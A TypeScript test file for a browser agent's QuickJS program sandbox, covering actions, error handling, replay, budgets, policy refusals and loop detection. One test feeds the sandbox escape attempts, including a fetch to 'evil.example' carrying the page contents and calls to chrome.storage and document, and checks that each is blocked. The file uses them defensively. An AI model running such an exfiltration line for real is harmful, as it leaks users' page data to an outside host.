/** Programs in a run: the reducer, the planner that carries programs out, and the sandbox. */
import { expect, test } from 'vitest';
import { sampleNewRun, samplePolicy } from '../../../e2e/samples/run-samples.ts';
import { sampleElement, sampleEvidence, sampleText, sampleView } from '../../../e2e/samples/view-samples.ts';
import type { Action } from '../../core/actions/action.ts';
import { writeAction } from '../../core/actions/grammar.ts';
import { NO_USAGE } from '../../core/usage.ts';
import type { Planned, Planner, PlannerRequest } from '../../core/ports.ts';
import { createPlanner } from '../../core/planner/deciders.ts';
import { historyText } from '../../core/prompt/history-text.ts';
import { ok } from '../../core/result.ts';
import type { Decision } from '../../core/run/decision.ts';
import type { ActReply } from '../../core/run/run-event.ts';
import { topFrame, type RunState } from '../../core/run/run-state.ts';
import { startRun, step, type NewRun } from '../../core/run/step.ts';
import type { PageView } from '../../core/view/view.ts';
import { runProgram } from '../../core/program/run-program.ts';
import { quickJsSandbox } from './quickjs-sandbox.ts';
import { sampleExemplars } from '../../../e2e/samples/demonstration-samples.ts';
import { PLUGINS } from '../../benchmark/plugins/plugin-table.ts';

interface World {
  readonly budget?: NewRun['budget'];
  /** What the page shows once these actions were carried out. */
  view(done: readonly string[]): PageView;
  /** What comes of an action; carried out when nothing is said. */
  act?(action: Action, done: readonly string[]): ActReply | undefined;
}

interface Played {
  readonly state: RunState;
  /** The actions that the page was sent, in the grammar. */
  readonly done: readonly string[];
  /** The history that the model was shown, for each time it was asked. */
  readonly asked: readonly string[];
}

/** Plays a run to its end. The model gives these answers in turn. Nothing but data is kept from event to event. */
async function play(world: World, ...answers: readonly (string | Decision)[]): Promise<Played> {
  const done: string[] = [];
  const asked: string[] = [];
  const model: Planner = {
    kind: 'model',
    decide: ({ run, frame }: PlannerRequest) => {
      const answer = answers[asked.length] ?? { kind: 'return', status: 'failed', answer: 'no more answers' };
      asked.push(historyText(run, frame.id));
      const decision: Decision = typeof answer === 'string' ? { kind: 'program', source: answer } : answer;
      const planned: Planned = {
        by: 'model',
        reasoning: 'So.',
        decision,
        exemplars: [],
        usage: NO_USAGE,
        modelCalls: 1,
      };
      return Promise.resolve(ok(planned));
    },
  };
  let { state, effects } = startRun(
    sampleNewRun({
      policies: [samplePolicy('web', { groups: ['core', 'look'] })],
      ...(world.budget && { budget: world.budget }),
    }),
  ) as ReturnType<typeof step>;
  for (let at = 1; state.phase !== 'ended' && state.phase !== 'asking'; at += 1) {
    const [effect] = effects;
    if (effect === undefined || at > 500) throw new Error(`nothing follows while ${state.phase}`);
    const kept = JSON.parse(JSON.stringify(state)) as Exclude<RunState, { phase: 'ended' }>;
    if (effect.type === 'observe') {
      ({ state, effects } = step(kept, { type: 'observed', at, view: world.view(done) }));
    } else if (effect.type === 'decide' && kept.phase === 'deciding') {
      const planned = await createPlanner(
        { direct: false, replay: false },
        PLUGINS,
        (start) => runProgram(start, quickJsSandbox),
        model,
      ).decide({
        run: kept,
        frame: topFrame(kept),
        view: kept.view,
        exemplars: sampleExemplars(),
        signal: new AbortController().signal,
        onReasoning: () => undefined,
      });
      if (!planned.ok) throw new Error(planned.error.kind);
      ({ state, effects } = step(kept, { type: 'decided', at, planned: planned.value }));
    } else if (effect.type === 'act') {
      done.push(writeAction(effect.action));
      const outcome = world.act?.(effect.action, done) ?? ok(sampleEvidence({ mutations: 1 }));
      ({ state, effects } = step(kept, { type: 'acted', at, outcome, verdict: null }));
    } else throw new Error(effect.type);
  }
  return { state, done, asked };
}

const button = sampleElement('1', 'button', 'Add');
const counter: World = {
  view: (done) => sampleView([button, sampleText(`Count: ${done.length}`)]),
};

test('a program acts, reads what came of it, and decides: with one call of the model', async () => {
  const { state, done, asked } = await play(
    counter,
    `while (!exists("Count: 3")) click(find("button", "Add"));
     done(view().includes("Count: 3") ? "three" : "?");`,
  );
  expect(done).toEqual(['click 1', 'click 1', 'click 1']);
  expect(asked).toHaveLength(1);
  expect(state).toMatchObject({
    end: { status: 'done', answer: 'three' },
    spent: { modelCalls: 1, actions: 3 },
  });
  // Steps of a program are no decisions of the model's: they do not use up its limit.
  expect(state.spent.decisions).toBe(2);
});

test('actions without a read between them are one plan', async () => {
  const { state, done } = await play(counter, `for (const ref of ["1", "1"]) click(ref); note("n"); done("x")`);
  expect(done).toEqual(['click 1', 'click 1']);
  expect(state.timeline.filter(({ type }) => type === 'decided')).toHaveLength(3);
  expect(state.notes).toEqual(['n']);
});

test('an action that fails throws, where the program can catch it, and the rest of its plan is not done', async () => {
  const world: World = {
    ...counter,
    act: (action) =>
      action.kind === 'click' && action.ref === '9'
        ? { ok: false, error: { kind: 'stale-ref', ref: action.ref, nearest: [] } }
        : undefined,
  };
  const { state, done } = await play(
    world,
    `try { click("9"); click("1"); } catch (error) { note(error.message); click("1", "double"); } done("x");`,
  );
  expect(done).toEqual(['click 9', 'click 1 double']);
  expect(state.notes).toEqual(['click failed: element 9 is gone, and nothing similar is on the page']);
});

test('what the program did not catch is told to the model, with the line, and the model goes on', async () => {
  const { state, asked } = await play(counter, `click("1");\nconst ref = find("button", "Gone");\nclick(ref);`, {
    kind: 'return',
    status: 'done',
    answer: 'after all',
  });
  expect(asked[1]).toContain('   | 2 const ref = find("button", "Gone");\n');
  expect(asked[1]).toContain('the program stopped: Error: click was not called as click(ref, how). (line 3');
  expect(state).toMatchObject({ end: { answer: 'after all' } });
  expect(state.timeline.filter(({ type }) => type === 'notice')).toMatchObject([{ notice: { kind: 'program-ended' } }]);
});

test.each([
  ['while (true) {}', /took more than 2 million steps/],
  ['let s = "xxxxxxxxxx"; for (;;) s += s', /more memory/],
  ['const f = () => f() + 1; f()', /nested too deeply/],
  ['fetch("https://evil.example/?" + view())', /fetch is not defined|'fetch' is not defined/],
  ['chrome.storage.local.get()', /'?chrome'? is not defined/],
  ['document.querySelector("button").click()', /'?document'? is not defined/],
  ['for (;;) click("1")', /stopped after 200 actions/],
  ['let i = 0; for (;;) note(String(i++))', /stopped after 200 actions/],
  ['for (;;) view()', /stopped after 2000 reads/],
])('%s is stopped, and the model is told why', async (source, why) => {
  const { state, asked } = await play(counter, source, { kind: 'return', status: 'done', answer: 'told' });
  expect(asked[1]).toMatch(why);
  expect(state).toMatchObject({ end: { answer: 'told' } });
});

test('a program that comes to its end without deciding is followed by the next', async () => {
  const { done, asked, state } = await play(counter, `click("1");`, `if (exists("Count: 1")) done("one")`);
  expect(done).toEqual(['click 1']);
  expect(asked[1]).toContain('the program ran to its end');
  expect(state).toMatchObject({ end: { answer: 'one' } });
});

test('what was read is replayed and not read again', async () => {
  const { done, state } = await play(
    counter,
    // When it is run again, the first read would say something else.
    `const before = view(); click("1"); const after = view(); done([before, after].map((it) => it.match(/Count: (\\d)/)[1]).join());`,
  );
  expect(done).toEqual(['click 1']);
  expect(state).toMatchObject({ end: { answer: '0,1' } });
});

test('an action of which no answer came is never sent again', async () => {
  const world: World = {
    ...counter,
    act: (_action, done) => (done.length === 1 ? { ok: 'unknown' } : undefined),
  };
  const { done } = await play(world, `try { click("1") } catch { if (exists("Count: 1")) done("once") }`);
  expect(done).toEqual(['click 1']);
});

test('an action that the policy does not have ends the program, and the model is told', async () => {
  const { done, asked } = await play(counter, `click("1"); drag("1", null, null, [{ ref: "1" }]); click("1")`, {
    kind: 'return',
    status: 'failed',
    answer: 'no',
  });
  expect(done).toEqual(['click 1']);
  expect(asked[1]).toContain('drag was refused');
});

test('a program that the last decision allowed is carried to its end, and no other follows', async () => {
  const single = { ...sampleNewRun().budget, maxDecisions: 1 };
  const source = `click("1"); if (exists("Count: 1")) click("1"); `;
  const { done, asked, state } = await play({ ...counter, budget: single }, source, source);
  expect(done).toEqual(['click 1', 'click 1']);
  expect(asked).toHaveLength(1);
  expect(state).toMatchObject({
    end: { status: 'failed', reason: expect.stringMatching(/no other decision/) },
  });
});

test('a question ends the program, and the model goes on with the answer', async () => {
  const { state } = await play(counter, `ask("Which one?"); click("1");`);
  expect(state).toMatchObject({ phase: 'asking', question: 'Which one?' });
});

test('the same program again on an unchanged page is a circle, as any decision is', async () => {
  const still: World = { view: () => sampleView([button]), act: () => ok(sampleEvidence()) };
  const same = `exists("x")`;
  const { asked } = await play(still, same, same, { kind: 'return', status: 'failed', answer: 'no' });
  expect(asked[2]).toContain('you made the same decision on the same page before');
});
